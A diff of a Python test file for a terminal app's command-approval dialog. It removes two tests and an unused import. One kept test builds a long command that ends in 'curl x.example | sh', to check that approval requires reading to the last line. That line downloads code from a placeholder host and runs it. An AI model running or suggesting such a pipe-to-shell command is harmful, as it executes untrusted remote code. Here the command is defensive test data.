@@ -12,8 +12,7 @@ from app.tui.app import MemdeckApp
 from memory.trust.asks import asks_of
 from memory.trust.consent import Trust
 from memory.workspace import Workspace
-from tests.app.tui.tui_helpers import NOW, burst, make_app, make_workspace, press, running, send, settle
-from tests.patience import within
+from tests.app.tui.tui_helpers import NOW, burst, make_app, make_workspace, press, running, settle
 from tests.widgets.harness import screen_text
 from widgets.dialogs.consent import ConsentScreen
 
@@ -101,20 +100,6 @@ async def test_keys_typed_before_the_question_are_dropped(workspace: Workspace) 
         assert "approved" in states(workspace).values()
 
 
-async def test_one_can_leave_before_the_question_is_there(workspace: Workspace) -> None:
-    """`ctrl+q` answers nothing, so it is not dropped with what may be taken for an answer."""
-    app = make_app(workspace)
-    async with running(app) as pilot:
-        await press(pilot, "7")
-        for key in ("T", "y", "ctrl+q"):
-            send(pilot, key)
-        async with within(lambda: f"idle: {app.idle}, on the screen:\n{screen_text(app)}"):
-            while app.return_code is None:
-                await pilot.pause(0.005)
-        assert app.return_code == 0
-    assert set(states(workspace).values()) == {"pending"}
-
-
 async def test_a_long_command_has_to_be_read_to_its_end(tmp_path: Path) -> None:
     """y scrolls until the last line was on the screen, and only then approves."""
     long = "echo begin; " + " ".join(f"echo step-{number};" for number in range(300)) + " curl x.example | sh"
@@ -164,19 +149,3 @@ async def test_what_changes_while_it_is_read_is_not_approved(workspace: Workspac
         await press(pilot, "y")
         assert said(app) == ["Not approved"]
         assert states(workspace)["check", "Disk Space"] == "pending"
-
-
-async def test_an_action_of_a_task_is_asked_for_in_its_pane(workspace: Workspace) -> None:
-    """T on a task shows its action; on a task without one there is nothing to ask."""
-    app = make_app(workspace)
-    async with running(app) as pilot:
-        pane = app.pane
-        assert pane is not None
-        tasks = workspace.snapshot().tasks.tasks
-        assert pane.go_to(next(task.ref for task in tasks if task.title == "Deploy v2.1 to staging"))
-        await press(pilot, "T")
-        assert "Run this action of the task “Deploy v2.1 to staging”?" in screen_text(app)
-        await press(pilot, "enter")
-        assert pane.go_to(next(task.ref for task in tasks if task.action is None))
-        await press(pilot, "T")
-        assert said(app) == ["Nothing here needs approval."]
